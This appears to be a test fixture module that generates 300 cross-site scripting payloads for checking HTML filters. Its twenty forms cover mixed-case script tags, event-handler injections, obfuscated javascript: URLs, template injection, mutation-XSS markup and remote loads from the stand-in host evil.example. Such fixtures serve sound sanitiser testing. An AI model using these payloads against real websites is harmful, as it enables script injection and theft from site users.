/** What somebody might try to have run, in ways that filters have let through. */
export const payloads = Array.from({ length: 300 }, (_, n) => {
  const call = `alert(${n})`
  const forms = [
    `<script>${call}</script>`,
    `<ScRiPt src=//evil.example/${n}></sCrIpT>`,
    `"><img src=x onerror=${call}>`,
    `'><svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `javascript:${call}`,
    `jav&#x09;ascript:${call}`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCg${n}`,
    `</title><script>${call}</script>`,
    `</textarea><iframe srcdoc="<script>${call}</script>">`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `<!--<img src="--><img src=x onerror=${call}//">`,
    `<a href="javascript:${call}">x</a>`,
    `<style>@import'//evil.example/${n}';</style>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    `<body onload=${call}>`,
    `<details open ontoggle=${call}>`,
    `]]><script>${call}</script>`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
  ]
  return forms[n % forms.length] ?? ''
})
